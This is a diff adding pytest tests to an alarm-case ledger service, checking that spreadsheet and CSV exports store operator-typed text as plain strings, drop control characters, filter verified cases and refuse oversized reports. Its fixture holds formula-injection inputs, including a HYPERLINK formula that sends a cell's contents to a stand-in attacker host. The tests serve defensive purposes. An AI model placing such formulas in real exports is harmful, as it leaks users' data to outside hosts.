@@ -592,3 +592,112 @@ async def test_report_equals_the_hand_worked_figures(
     # 2 March; the walk test's alarm only when asked for
     assert made["c1"] not in ids(day_one) and day_one["total"] == 8
     assert with_tests["total"] == 10 and made["test"] in ids(with_tests)
+
+
+# ---- what operators typed, exported safely ------------------------------------------------------
+
+#: Typed into a case by an operator (or written before the API refused control characters):
+#: each would be a live formula in a spreadsheet, or (\x0b, \x1b) break an Excel export.
+HOSTILE = {
+    "note": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "dispatched_to": "+120",
+    "feedback": "－1+2",  # full-width minus
+    "control": "门铃\x0b坏了\x1b",
+}
+
+
+@pytest.fixture
+async def hostile_cases(
+    tmp_path: Path, mosquitto: Mosquitto
+) -> AsyncIterator[tuple[RunningCloud, dict[str, int]]]:
+    clock = FakeClock(B)
+    made: dict[str, int] = {}
+    async with book_parts(tmp_path / "cloud.db", clock) as parts:
+        [formula] = await parts.book.apply(
+            [draft("call_for_help", 1, "call", "gw-ld01", "call-0101", B)], B
+        )
+        made["formula"] = formula.alarm.id
+        await parts.book.accept(formula.alarm.id, "op")
+        await parts.book.dispatch(formula.alarm.id, "op", HOSTILE["dispatched_to"], "")
+        await parts.book.feedback(formula.alarm.id, "op", HOSTILE["feedback"])
+        await parts.book.resolve(formula.alarm.id, "op", Outcome.HANDLED, HOSTILE["note"])
+        clock.now = B + 60
+        [control] = await parts.book.apply(
+            [draft("smoke_alarm", 1, "smoke", "gw-ld01", "smoke-0102", B + 60)], B + 60
+        )
+        made["control"] = control.alarm.id
+        await parts.book.resolve(control.alarm.id, "op", Outcome.HANDLED, HOSTILE["control"])
+        await parts.book.verify(control.alarm.id, "sup", "回访属实")
+    forget_gateway_status(mosquitto)
+    async with running_cloud(cloud_settings(tmp_path, mosquitto)) as running:
+        yield running, made
+
+
+def _column(name: str) -> int:
+    return [c[0] for c in ledger_module.COLUMNS].index(name)
+
+
+async def test_exports_write_typed_text_as_text_never_as_a_formula(
+    hostile_cases: tuple[RunningCloud, dict[str, int]],
+) -> None:
+    running, made = hostile_cases
+    client = await signed_in(running.url, "op")
+    try:
+        xlsx = await client.get("/api/ledger/export.xlsx", params={"lang": "en"})
+        csv_resp = await client.get("/api/ledger/export.csv", params={"lang": "en"})
+    finally:
+        await client.aclose()
+    # one control character used to make every Excel export of the range fail (500)
+    assert xlsx.status_code == 200, xlsx.text
+    assert csv_resp.status_code == 200, csv_resp.text
+
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Ledger"]
+    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
+    formula = rows[made["formula"]]
+    for field in ("note", "dispatched_to", "feedback"):
+        cell = formula[_column(field)]
+        assert cell.value == HOSTILE[field], field  # the text as typed …
+        assert cell.data_type == "s", field  # … and a string, not a formula
+    control = rows[made["control"]]
+    assert control[_column("note")].value == "门铃坏了"  # control characters dropped
+    assert control[_column("note")].data_type == "s"
+
+    text = csv_resp.content.decode("utf-8-sig")
+    by_id = {int(r[0]): r for r in list(csv.reader(io.StringIO(text)))[1:]}
+    row = by_id[made["formula"]]
+    for field in ("note", "dispatched_to", "feedback"):
+        assert row[_column(field)] == "'" + HOSTILE[field], field
+    assert by_id[made["control"]][_column("note")] == "门铃坏了"
+
+
+async def test_the_ledger_filters_verified_and_unverified_cases(
+    hostile_cases: tuple[RunningCloud, dict[str, int]],
+) -> None:
+    running, made = hostile_cases
+    client = await signed_in(running.url, "sup")
+    try:
+        assert ids(await ledger(client, verified=True)) == [made["control"]]
+        assert ids(await ledger(client, verified="false")) == [made["formula"]]
+        assert len(ids(await ledger(client))) == 2
+        bad = await client.get("/api/ledger", params={"verified": "maybe"})
+        assert bad.status_code == 422 and "verified" in bad.text
+        options = (await client.get("/api/ledger/report", params={"verified": "true"})).json()
+        assert options["count"] == 1
+    finally:
+        await client.aclose()
+
+
+async def test_a_report_too_large_is_refused_with_the_count(
+    known_cases: tuple[RunningCloud, dict[str, int]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    running, _ = known_cases
+    monkeypatch.setattr(ledger_module, "REPORT_MAX_ROWS", 5)
+    client = await signed_in(running.url, "sup")
+    try:
+        refused = await client.get("/api/ledger/report")
+        assert refused.status_code == 413
+        assert refused.json()["detail"].startswith("9 cases match; a report covers at most 5")
+        narrowed = await client.get("/api/ledger/report", params={"level": "I"})
+        assert narrowed.status_code == 200 and narrowed.json()["count"] == 4
+    finally:
+        await client.aclose()
